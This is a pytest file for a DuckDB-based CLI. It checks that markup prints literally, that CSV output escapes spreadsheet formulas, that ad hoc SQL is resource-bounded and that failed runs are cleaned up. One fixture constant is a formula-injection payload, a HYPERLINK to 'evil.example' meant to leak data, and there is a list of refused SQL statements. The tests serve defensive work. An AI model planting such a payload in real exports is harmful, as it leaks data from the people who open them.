"""Values that look like markup or formulas, runaway ad hoc SQL and what a failed run leaves
behind (issue #13, docs/RELIABILITY.md): printed text is literal, CSV is formula-safe, ad hoc SQL
is bounded in time, memory and disk, and the next run cleans up after a failed one."""

import csv
import io
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import duckdb
import pytest
import requests
from click.testing import CliRunner

from orchestration.cli import main
from orchestration.cli.printing import summary_guard
from orchestration.paths import SAMPLE_INTEROP
from orchestration.serve.published import csv_safe
from tests.conftest import DashboardServer, tmpfs

SCOMM = str(Path(sys.executable).parent / "scomm")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click me")'


def scomm(*args: str, env: dict | None = None, timeout: int = 600) -> subprocess.CompletedProcess:
    return subprocess.run(
        [SCOMM, *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**os.environ, "COLUMNS": "1000", **(env or {})},  # long paths on one line
    )


def flat(result: subprocess.CompletedProcess) -> str:
    return " ".join((result.stdout + result.stderr).split())


def bracket_file(tmp_path: Path, edit=None) -> Path:
    """The sample statistics in a file whose path holds `[/x]` (a folder `in [` and a file
    `x] reports.csv`), two names with markup, and an extra column named and filled with markup."""
    lines = SAMPLE_INTEROP.read_text(encoding="utf-8").splitlines()
    out = [lines[0] + ",[/x] extra"]
    for line in lines[1:]:
        line = line.replace(",Maricopa County,", ",Maricopa County [/x],")
        line = line.replace(",Pima County,", ",Pima County [bold],")
        out.append(line + ",[red]v[/red]")
    if edit:
        out = edit(out)
    folder = tmp_path / "in ["
    folder.mkdir()
    path = tmp_path / "in [/x] reports.csv"
    path.write_text("\n".join(out) + "\n", encoding="utf-8")
    assert path.parent == folder
    return path


# ---------------------------------------------------------------- 1. printed text is literal


@pytest.mark.xdist_group("hostile_runs")
def test_markup_in_paths_names_and_columns_prints_literally_and_publishes(sample_run, tmp_path):
    source = bracket_file(tmp_path)
    warehouse = tmp_path / "warehouse"
    result = scomm("run", "--warehouse", str(warehouse), "--source", f"interop={source}")
    output = flat(result)
    assert result.returncode == 0, output
    assert "Traceback" not in output and "MarkupError" not in output
    assert f"interop={source}" in output  # the path with its [/x], as typed
    assert "NOTE" in output and "['[/x] extra'] accepted" in output
    assert "Data status of this publication" in output

    # the published names come back literally through scomm sql (table, csv, json)
    query = (
        "select distinct published_name from qa_interop_quarantined_reports "
        "where published_name like '%[%' order by 1"
    )
    table = scomm("sql", "--warehouse", str(warehouse), query)
    assert table.returncode == 0, flat(table)
    assert "Maricopa County [/x]" in table.stdout and "Pima County [bold]" in table.stdout
    as_csv = scomm("sql", "--warehouse", str(warehouse), "--format", "csv", query)
    assert as_csv.stdout.splitlines()[1:] == ["Maricopa County [/x]", "Pima County [bold]"]


@pytest.mark.xdist_group("hostile_runs")
def test_a_refusal_naming_a_markup_value_prints_it_and_publishes_nothing(sample_run, tmp_path):
    # line 240 (Suffolk County, 2012-09-30): removals_l1 becomes the text `[/x]`
    source = bracket_file(
        tmp_path,
        lambda lines: [
            line.replace(",219,118,", ",[/x],118,") if i == 239 else line
            for i, line in enumerate(lines)
        ],
    )
    warehouse = tmp_path / "warehouse"
    warehouse.mkdir()
    shutil.copy(sample_run.serving, warehouse / "marts.duckdb")
    before = (warehouse / "marts.duckdb").read_bytes()
    result = scomm("run", "--warehouse", str(warehouse), "--source", f"interop={source}")
    output = flat(result)
    assert result.returncode == 1, output
    assert "Traceback" not in output and "MarkupError" not in output
    assert "FAILED interop_raw_suite" in output
    assert f"{source}:240" in output and "removals_l1='[/x]'" in output
    assert output.startswith("scomm run") and "Run refused: nothing was published." in output
    assert (warehouse / "marts.duckdb").read_bytes() == before


def test_sql_prints_markup_literally_in_every_format(sample_run):
    query = "select '[/x]' as a, '[bold]A[/bold]' as b, ':smile:' as \"[red]c\""
    result = scomm("sql", "--warehouse", str(sample_run.warehouse), query)
    assert result.returncode == 0, flat(result)
    assert "[/x]" in result.stdout and "[bold]A[/bold]" in result.stdout
    assert ":smile:" in result.stdout and "[red]c" in result.stdout
    as_csv = scomm("sql", "--warehouse", str(sample_run.warehouse), "--format", "csv", query)
    assert as_csv.stdout.splitlines() == ["a,b,[red]c", "[/x],[bold]A[/bold],:smile:"]


def test_a_summary_that_cannot_be_printed_keeps_the_exit_code_of_the_publication(capsys):
    with summary_guard(published=True, serving=Path("/w/marts.duckdb")):
        raise RuntimeError("printing broke")  # no traceback, no exit 1: it was published
    err = capsys.readouterr().err
    assert "the run published /w/marts.duckdb" in err and "printing broke" in err
    with summary_guard(published=False, serving=Path("/w/marts.duckdb")):
        raise RuntimeError("printing broke")
    assert "nothing was published" in capsys.readouterr().err


# ---------------------------------------------------------------- 2. CSV is formula-safe

FORMULAS = {
    "hyperlink": HYPERLINK,
    "plus": "+1",
    "minus": "-2",
    "at": "@SUM(A1:A9)",
    "tab": "\tx",
    "cr": "\rx",
    "plain": "Suffolk County",
}


def test_csv_safe_neutralises_formula_text_and_leaves_numbers():
    assert csv_safe(HYPERLINK) == "'" + HYPERLINK
    for text in ("+1", "-2", "@SUM(A1)", "\tx", "\rx", "=1+1"):
        assert csv_safe(text) == "'" + text
    for value in (-2, -2.5, 0, None, "Suffolk County", "", "1-2"):
        assert csv_safe(value) == value


def test_sql_csv_is_formula_safe_and_numbers_stay_numbers(sample_run):
    cells = ", ".join(f"{duckdb_literal(v)} as {k}" for k, v in FORMULAS.items())
    result = CliRunner().invoke(
        main,
        [
            "sql",
            "--warehouse",
            str(sample_run.warehouse),
            "--format",
            "csv",
            f"select {cells}, -2 as negative, -2.5 as negative_decimal",
        ],
    )
    assert result.exit_code == 0, result.output
    row = next(csv.DictReader(io.StringIO(result.output, newline="")))
    for key, value in FORMULAS.items():
        assert row[key] == ("'" + value if key != "plain" else value), key
    assert row["negative"] == "-2" and row["negative_decimal"] == "-2.5"


def duckdb_literal(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def hostile_copy(sample_run, tmp_path: Path) -> Path:
    """A copy of the published file with formula names for Suffolk County (25025) and a table
    of every formula prefix beside negative numbers."""
    serving = tmp_path / "published" / "marts.duckdb"
    serving.parent.mkdir()
    shutil.copy(sample_run.serving.resolve(), serving)
    with duckdb.connect(str(serving)) as con:
        for table in ("mart_jurisdiction_year", "dim_jurisdiction"):
            column = "jurisdiction_name" if table == "mart_jurisdiction_year" else "name"
            con.execute(
                f"update {table} set {column} = ? where jurisdiction_id = '25025'", [HYPERLINK]
            )
        cells = ", ".join(f"{duckdb_literal(v)} as {k}" for k, v in FORMULAS.items())
        con.execute(
            f"create table zz_hostile as select {cells}, -2 as negative, -2.5::double as neg_f"
        )
    return serving


def test_export_csv_is_formula_safe_and_parquet_exact(sample_run, tmp_path):
    serving = hostile_copy(sample_run, tmp_path)
    warehouse = serving.parent
    for fmt in ("csv", "parquet"):
        result = CliRunner().invoke(
            main,
            [
                "export",
                "--format",
                fmt,
                "--out",
                str(tmp_path / fmt),
                "--warehouse",
                str(warehouse),
            ],
        )
        assert result.exit_code == 0, result.output
    rows = list(csv.DictReader((tmp_path / "csv" / "zz_hostile.csv").open(newline="")))
    assert len(rows) == 1
    for key, value in FORMULAS.items():
        assert rows[0][key] == ("'" + value if key != "plain" else value), key
    assert rows[0]["negative"] == "-2" and rows[0]["neg_f"] == "-2.5"
    names = {
        r["jurisdiction_name"]
        for r in csv.DictReader((tmp_path / "csv" / "mart_jurisdiction_year.csv").open())
        if r["jurisdiction_id"] == "25025"
    }
    assert names == {"'" + HYPERLINK}
    parquet = tmp_path / "parquet" / "zz_hostile.parquet"
    cursor = duckdb.connect().execute(f"select * from read_parquet('{parquet}')")
    exact = dict(zip([d[0] for d in cursor.description], cursor.fetchone(), strict=True))
    assert {k: exact[k] for k in FORMULAS} == FORMULAS
    assert exact["negative"] == -2


def test_dashboard_csv_downloads_are_formula_safe(sample_run, tmp_path):
    serving = hostile_copy(sample_run, tmp_path)
    with DashboardServer(serving) as server:
        jurisdiction = requests.get(server.url + "/download.csv", params={"q": "25025"}, timeout=60)
        ranking = requests.get(
            server.url + "/download.csv",
            params={"view": "ranking", "fy_to": 2012, "state": "MA"},
            timeout=60,
        )
        county_map = requests.get(server.url + "/home.csv", params={"view": "map"}, timeout=60)
    rows = list(csv.DictReader(io.StringIO(jurisdiction.text)))
    assert {r["jurisdiction_name"] for r in rows if r["level"] == "jurisdiction"} == {
        "'" + HYPERLINK
    }
    ranked = list(csv.DictReader(io.StringIO(ranking.text)))
    assert "'" + HYPERLINK in {r["jurisdiction_name"] for r in ranked}
    assert HYPERLINK not in jurisdiction.text.replace("'" + HYPERLINK, "")
    assert all(r["removals_total"].lstrip("-").isdigit() for r in rows if r["removals_total"])
    mapped = list(csv.DictReader(io.StringIO(county_map.text)))  # the home page's county map
    assert "'" + HYPERLINK in {r["name"] for r in mapped if r["jurisdiction_id"] == "25025"}
    assert HYPERLINK not in county_map.text.replace("'" + HYPERLINK, "")


# ---------------------------------------------------------------- 3. ad hoc SQL is bounded


def sql(warehouse: Path, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return scomm("sql", "--warehouse", str(warehouse), *args, env=env, timeout=120)


def test_a_runaway_query_stops_at_the_timeout(sample_run):
    started = time.monotonic()
    result = sql(
        sample_run.warehouse, "--timeout", "2", "select count(*) from range(1000000000000)"
    )
    elapsed = time.monotonic() - started
    assert result.returncode == 1, flat(result)
    assert "timed out after 2 s" in result.stderr and "Traceback" not in result.stderr
    assert elapsed < 60  # the query alone would take hours; start-up is a few seconds


def test_a_memory_hungry_query_fails_with_a_memory_message(sample_run):
    result = sql(
        sample_run.warehouse, "--memory-limit", "50MB", "select list(range) from range(100000000)"
    )
    assert result.returncode == 1, flat(result)
    assert "out of memory: the query needs more than 50MB" in result.stderr
    assert "--memory-limit" in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize(
    "query",
    [
        "set memory_limit='100GB'",
        "reset memory_limit",
        "set threads = 64",
        "pragma enable_profiling",
        "set enable_profiling = 'json'",
        "select 1; set max_temp_directory_size = '1TB'",
        "call enable_logging()",
        # exit 134 (C++ terminate) before: logging to a file with file access disabled
        "CALL enable_logging(storage='file', storage_path='/tmp/scomm-log'); "
        "select count(*) from mart_rollout",
        "select * from enable_logging(storage='file', storage_path='/tmp/scomm-log')",
        "set temp_directory = '/tmp/elsewhere'",
        "update extensions",
    ],
)
def test_settings_logging_and_profiling_statements_are_refused(sample_run, query):
    result = sql(sample_run.warehouse, query)
    assert result.returncode == 1, (query, flat(result))
    assert result.stderr.startswith("Error: refused:") and len(result.stderr.splitlines()) == 1
    assert not Path("/tmp/scomm-log").exists()


def test_limits_are_applied_and_locked(sample_run):
    result = CliRunner().invoke(
        main,
        [
            "sql",
            "--warehouse",
            str(sample_run.warehouse),
            "--format",
            "csv",
            "--memory-limit",
            "300MB",
            "--threads",
            "1",
            "select current_setting('memory_limit') as m, current_setting('threads') as t, "
            "current_setting('lock_configuration') as l",
        ],
    )
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[1] == "286.1 MiB,1,True"
    bad = CliRunner().invoke(
        main, ["sql", "--warehouse", str(sample_run.warehouse), "--memory-limit", "lots", "x"]
    )
    assert bad.exit_code == 2 and "expected a size such as 512MB" in bad.output


def test_spills_go_to_a_temporary_folder_that_is_removed(sample_copy, tmp_path):
    spill_root = tmp_path / "tmp"
    spill_root.mkdir()
    published = sample_copy.warehouse / "published"
    before = sorted(p.name for p in published.iterdir())
    # a hash aggregate over 20 million keys in 100 MB: it can only finish by spilling
    query = (
        "select count(*), sum(c) from (select range % 5000000 as k, count(*) as c "
        "from range(20000000) group by 1)"
    )
    env = {"TMPDIR": str(spill_root)}
    done = sql(sample_copy.warehouse, "--memory-limit", "100MB", query, env=env)
    assert done.returncode == 0, flat(done)
    assert "5000000" in done.stdout
    # the same query allowed 1 MB of spill fails saying so: it did spill
    capped = sql(
        sample_copy.warehouse,
        "--memory-limit",
        "100MB",
        "--max-temp-size",
        "1MB",
        query,
        env=env,
    )
    assert capped.returncode == 1 and "out of disk for spilling" in capped.stderr
    assert list(spill_root.iterdir()) == []  # the spill folder is gone
    assert sorted(p.name for p in published.iterdir()) == before  # nothing in the warehouse


# ---------------------------------------------------------------- 5. leftovers of a failed run


def torn_wal(build: Path) -> None:
    """Leave build.duckdb.wal as a run that ran out of disk leaves it: committed writes not
    checkpointed, then bytes the full disk tore."""
    con = duckdb.connect(str(build))
    con.execute("pragma disable_checkpoint_on_shutdown")
    con.execute("set checkpoint_threshold = '1TB'")
    con.execute("create table raw.scratch (n bigint, s varchar)")
    for _ in range(5):  # small inserts go through the log (a large one is written directly)
        con.execute("insert into raw.scratch select range, range::varchar from range(50000)")
    con.close()
    wal = build.with_name("build.duckdb.wal")
    assert wal.stat().st_size > 8000
    with wal.open("r+b") as f:
        f.seek(1000)
        f.write(os.urandom(5000))


@pytest.mark.xdist_group("hostile_runs")
def test_the_next_run_does_not_depend_on_a_failed_runs_leftovers(sample_copy):
    warehouse = sample_copy.warehouse
    torn_wal(sample_copy.build)
    build_spill = warehouse / "build.duckdb.tmp"
    build_spill.mkdir()
    (build_spill / "duckdb_temp_storage-0.tmp").write_bytes(b"\0" * 65536)
    published = warehouse / "published"
    version = sample_copy.serving.resolve()
    half = published / f".{version.stem}-half.duckdb.tmp"
    half.write_bytes(b"\0" * 4096)
    Path(str(half) + ".wal").write_bytes(b"\0" * 100)
    reader_spill = published / (version.name + ".tmp")  # a DuckDB CLI reader's spill, empty
    reader_spill.mkdir()
    gone_spill = published / "marts-19990101T000000000000-deadbeef.duckdb.tmp"
    gone_spill.mkdir()
    (gone_spill / "duckdb_temp_storage-0.tmp").write_bytes(b"\0" * 65536)

    result = scomm("run", "--warehouse", str(warehouse))
    output = flat(result)
    assert result.returncode == 0, output
    assert "build.duckdb.wal (left by a failed run) could not be replayed" in output
    assert not (warehouse / "build.duckdb.wal").exists()
    assert not build_spill.exists()
    assert not half.exists() and not Path(str(half) + ".wal").exists()
    assert not reader_spill.exists() and not gone_spill.exists()
    with duckdb.connect(str(warehouse / "build.duckdb"), read_only=True) as con:
        assert con.execute("select count(*) from raw.interop_reports").fetchone() == (389,)


@pytest.fixture
def disk(tmp_path):
    """A 64 MB tmpfs (needs root, which CI has)."""
    with tmpfs(tmp_path / "disk", "64m") as mount:
        yield mount


@pytest.mark.xdist_group("hostile_runs")
def test_a_run_out_of_disk_at_publish_leaves_nothing_the_next_run_needs(sample_run, disk):
    warehouse = disk / "warehouse"
    shutil.copytree(sample_run.warehouse, warehouse, symlinks=True)
    before = warehouse.joinpath("marts.duckdb").resolve().read_bytes()
    # leave 14 MB: enough for ingest and dbt, not for a new publication (measured 2026-11-30)
    free = shutil.disk_usage(disk).free // (1 << 20)
    subprocess.run(
        ["dd", "if=/dev/zero", f"of={disk / 'filler'}", "bs=1M", f"count={free - 14}"],
        capture_output=True,
        check=True,
    )
    # the same inputs as published: --full, or the run would rightly say "up to date"
    failed = scomm("run", "--full", "--warehouse", str(warehouse))
    assert failed.returncode == 1, flat(failed)
    assert "No space left on device" in flat(failed) and "nothing was published" in flat(failed)
    assert warehouse.joinpath("marts.duckdb").resolve().read_bytes() == before
    (disk / "filler").unlink()
    again = scomm("run", "--warehouse", str(warehouse))
    assert again.returncode == 0, flat(again)
    assert not (warehouse / "build.duckdb.wal").exists()
    assert not (warehouse / "build.duckdb.tmp").exists()
    assert [p.name for p in (warehouse / "published").iterdir() if p.name.startswith(".")] == []
